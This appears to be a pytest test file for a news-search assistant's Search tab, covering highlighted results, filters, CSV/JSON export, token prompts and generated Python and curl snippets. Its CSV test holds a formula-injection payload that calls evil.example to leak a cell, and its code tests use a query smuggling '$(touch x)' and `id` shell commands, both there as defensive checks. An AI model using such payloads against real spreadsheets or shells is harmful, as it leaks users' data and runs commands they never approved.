"""The Search tab without a browser: what is sought, the code that does the same, and the files."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path
from types import MappingProxyType, SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import pytest

from assistant.assistant import Assistant
from assistant.exporting import COLUMNS, hits_as_csv, hits_as_json
from assistant.settings import ServerSettings, Settings
from assistant.stores.tokens import TokenStore
from assistant.types import Article, Filters, Hit
from assistant.ui import render
from assistant.ui.lines import Lines
from assistant.ui.search import Search
from assistant.ui.sought import Found, Sought, found_words
from tests.fakes import WordEmbeddings, make_article, make_passage
from tests.ui.conftest import gradio_warnings, serving

pytestmark = gradio_warnings

STORY = "The bridge over the river will be open in the spring, the minister said. " * 12
ARTICLES = [
    Article(
        "A zebra ran over the plain.", "Zebra", "Ann", date(2024, 1, 5), "Gazette", "https://x.example/1"
    ),
    Article("Zebras sleep while they stand.", "Sleep", "", date(2024, 3, 1), "Herald", "https://x.example/2"),
    Article(STORY, "Bridge", "Bo", date(2024, 3, 1), "Herald", "https://x.example/bridge"),
    Article(STORY + "More at six.", "Bridge again", "", None, "Times", "https://x.example/again"),
]


@pytest.fixture
def assistant(tmp_path: Path) -> Iterator[Assistant]:
    settings = Settings(data_dir=tmp_path / "data")
    with Assistant.open(settings=settings, embedder=WordEmbeddings()) as opened:
        opened.add(ARTICLES)
        yield opened


@pytest.fixture
def search(assistant: Assistant) -> Search:
    return Search(assistant)


HERE = SimpleNamespace(host="127.0.0.1")


def event(**fields: object) -> Any:
    return SimpleNamespace(_data={"fields": fields})


def request(
    host: str = "127.0.0.1:7860",
    client: Any = HERE,
    headers: Mapping[str, str] = MappingProxyType({}),
) -> Any:
    scheme = SimpleNamespace(url=SimpleNamespace(scheme="http"))
    return SimpleNamespace(headers={"host": host, **headers}, request=scheme, client=client)


def unmarked(markup: str) -> str:
    return re.sub(r"<[^>]*>", "", markup)


def test_hits_have_marked_words_all_scores_and_a_way_into_the_article(search: Search):
    sought, found = search.search(event(query="zebra"), request())
    assert sought == Sought("zebra")
    assert re.findall(r"<mark>(.*?)</mark>", found) == ["zebra", "Zebras"]
    names = re.findall(r"<dt>(.*?)</dt>", found)
    assert names[:4] == ["Score", "Meaning", "Words", "Answers"]
    assert f'data-article="{ARTICLES[0].id}" data-version="{ARTICLES[0].version}"' in found
    assert 'data-query="zebra"' in found


def test_near_copies_are_named_and_can_be_opened(search: Search):
    _, found = search.search(event(query="the bridge over the river"), request())
    assert re.search(r'Also in <button[^>]*data-action="read"[^>]*>(Times|Herald)</button>', found)


def test_filters_narrow_and_reversed_dates_are_put_right(search: Search):
    sought, found = search.search(event(query="zebra", source="herald"), request())
    assert "Zebras sleep" in unmarked(found)
    assert "A zebra ran" not in unmarked(found)
    sought, _ = search.search(event(query="zebra", **{"from": "2024-02-01", "to": "2024-01-01"}), request())
    assert sought.filters == Filters(date(2024, 1, 1), date(2024, 2, 1))


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({}, "Search the passages themselves"),
        ({"query": "   "}, "Search the passages themselves"),
        ({"query": "the"}, "Nothing was found"),
        ({"query": "zebra", "from": "2030-01-01"}, "Nothing was found"),
        ({"query": "zebra", "top_k": "1e9", "order": "?", "source": None}, "passages in"),
    ],
)
def test_whatever_is_sent_is_answered(search: Search, fields: dict[str, object], said: str):
    assert said in search.search(event(**fields), request())[1]


def test_words_are_found_in_whatever_form():
    text = "Talks; the TALK of talking. Atalks."
    assert [text[slice(*span)] for span in found_words(text, "What talks?")] == ["Talks", "TALK", "talking"]
    assert found_words("", "zebra") == []


class TestFiles:
    def test_a_table_has_a_line_for_each_hit(self, search: Search, assistant: Assistant):
        hits = assistant.search("zebra", 10)
        rows = list(csv.DictReader(io.StringIO(hits_as_csv(hits))))
        assert [row["title"] for row in rows] == [hit.article.title for hit in hits]
        assert tuple(rows[0]) == COLUMNS
        assert float(rows[0]["score"]) == round(hits[0].score, 4)
        assert 'data-file="passages.csv"' in search.csv(Sought("zebra"))

    @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "  =", "＝"])
    def test_no_cell_is_a_formula(self, sign: str):
        evil = f'{sign}HYPERLINK("http://evil.example/?"&A1;"x")'
        article = make_article(evil, title=evil, source=evil, author=evil, url="")
        hit = Hit(make_passage(evil, article_id=article.id), article, 0.5, similarity=-0.25)
        (row,) = csv.DictReader(io.StringIO(hits_as_csv([hit]), newline=""))
        assert [row[name] for name in ("title", "source", "author", "text")] == [f"'{evil}"] * 4
        assert row["similarity"] == "-0.25"  # a number of ours stays one

    def test_json_is_what_python_says(self, search: Search, assistant: Assistant):
        hits = assistant.search("zebra", 10)
        said = json.loads(hits_as_json(hits, "zebra", Filters(date(2024, 1, 1)), rerank=True))
        assert said["hits"] == [hit.to_dict() for hit in hits]
        assert (said["query"], said["published_from"], said["rerank"]) == ("zebra", "2024-01-01", True)
        assert 'data-kind="application/json"' in search.json(Sought("zebra"))


class TestWhatIsNotThere:
    def test_no_word_and_nothing_near_is_said_and_what_comes_nearest_folded_away(self, search: Search):
        _, found = search.search(event(query="xqzzt blorp"), request())
        assert "No word of the query stands in any article. Nothing is near it in meaning either." in found
        assert re.search(
            r"<details[^>]*><summary>What is least far from it in meaning: [0-9]+ passages?<", found
        )
        assert re.search("<details[^>]* open", found) is None

    def test_what_is_near_in_meaning_alone_is_shown_and_said(self):
        sought, article = Sought("aeroplane"), make_article()
        hits = (Hit(make_passage("A plane landed.", article_id=article.id), article, 0.3, similarity=0.4),)
        found = render.passages(sought, Found(hits, {"aeroplane": False}), Lines("", ""))
        assert "The word does not stand in any article. These passages are near it in meaning only" in found
        assert "least far" not in found

    def test_words_that_stand_nowhere_are_named(self, search: Search):
        _, found = search.search(event(query="<b>blorp</b> zebra the"), request())
        assert "Found in no article: <bdi>“&lt;b&gt;blorp&lt;/b&gt;”</bdi>" in found
        assert "least far" not in found
        assert (
            'class="note"' not in search.search(event(query="zebra plains"), request())[1].partition("<ol")[2]
        )

    @pytest.mark.parametrize(
        ("query", "order", "is_said"),
        [
            ("zebra crossing", "read", True),
            ("zebra crossing", "search", False),
            ("Where do zebras sleep?", "read", False),
        ],
    )
    def test_answers_first_says_when_it_can_do_nothing(
        self, search: Search, query: str, order: str, is_said: bool
    ):
        _, found = search.search(event(query=query, order=order), request())
        assert ("This is no question, so no passage was read for an answer" in found) == is_said


class TestCode:
    EVIL = 'zebra\'s "$(touch x)"; `id` \\ é'

    def sought(self) -> Sought:
        return Sought(self.EVIL, Filters(date(2024, 1, 1), None, ("Gazette", "Herald")), 5, is_read=True)

    def test_who_sits_elsewhere_gets_no_folder_and_is_asked_for_a_token(self, assistant: Assistant):
        folder = str(assistant.corpus.data_dir)
        elsewhere = SimpleNamespace(host="192.168.1.9")
        asked = [request(), request(client=elsewhere), request(headers={"x-forwarded-for": "192.168.1.9"})]
        shown = [Search(assistant).search(event(query="zebra"), one)[1] for one in asked]
        assert [(folder in one, "$TOKEN" in one, "token create" in one) for one in shown] == [
            (True, False, False),
            (False, True, True),
            (False, True, True),
        ]

    @pytest.mark.parametrize("server", [{"names": ("articles.example",)}, {"require_token": True}])
    def test_a_server_that_wants_a_token_says_so(self, assistant: Assistant, server: dict[str, Any]):
        changed = assistant.settings.model_copy(update={"server": ServerSettings(**server)})
        assistant.settings = changed
        shown = Search(assistant).search(event(query="zebra"), request())[1]
        assert "os.environ[&#x27;TOKEN&#x27;]" in shown
        assert "Bearer $TOKEN" in shown


@pytest.mark.model
class TestCodeThatIsRun:
    """The lines as they stand, run by a Python and a shell that know nothing else."""

    QUERY = 'Where is the zebra\'s "$(touch x)"; `id` \\ é?'

    @pytest.fixture
    def assistant(self, tmp_path: Path) -> Iterator[Assistant]:
        settings = Settings(data_dir=tmp_path / 'Ann\'s "data"')
        with Assistant.open(settings=settings) as opened:
            opened.add(ARTICLES)
            yield opened

    @pytest.fixture(params=["here", "with a token"])
    def served(self, request: pytest.FixtureRequest, assistant: Assistant, tmp_path: Path) -> Iterator[Any]:
        """The address, and what the shells that are to run the lines know."""
        needs_token = request.param != "here"
        server = ServerSettings(require_token=needs_token)
        assistant.settings = assistant.settings.model_copy(update={"server": server})
        environ = {"PATH": os.environ["PATH"], "HOME": str(Path.home()), "PYTHONPATH": str(Path.cwd())}
        if needs_token:
            store = TokenStore(assistant.corpus.data_dir)
            environ["TOKEN"] = store.create("search", {"read"})[1]
            store.close()
        with serving(assistant) as address:
            yield address, environ

    def run(self, environ: dict[str, str], place: Path, *command: str) -> str:
        done = subprocess.run(command, env=environ, cwd=place, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def test_finds_the_same(self, assistant: Assistant, served: Any, tmp_path: Path):
        address, environ = served
        fields = {
            "query": self.QUERY,
            "order": "read",
            "top_k": "5",
            "from": "2024-01-01",
            "source": "herald",
        }
        asked = request(urlsplit(address).netloc)
        sought, shown = Search(assistant).search(event(**fields), asked)
        python, curl = (html.unescape(code) for code in re.findall("<pre[^>]*>(.*?)</pre>", shown, re.DOTALL))
        expected = [hit.passage.id for hit in assistant.search(self.QUERY, 5, sought.filters, rerank=True)]
        assert len(expected) >= 2

        place = tmp_path / "elsewhere"
        place.mkdir()
        ids = "print([getattr(hit, 'passage', None) and hit.passage.id or hit['passage_id'] for hit in hits])"
        assert self.run(environ, place, sys.executable, "-c", f"{python}\n{ids}").strip() == str(expected)
        answer = json.loads(self.run(environ, place, "bash", "-c", curl))
        assert [hit["passage_id"] for hit in answer["hits"]] == expected
        assert list(place.iterdir()) == []  # nothing that was typed was run
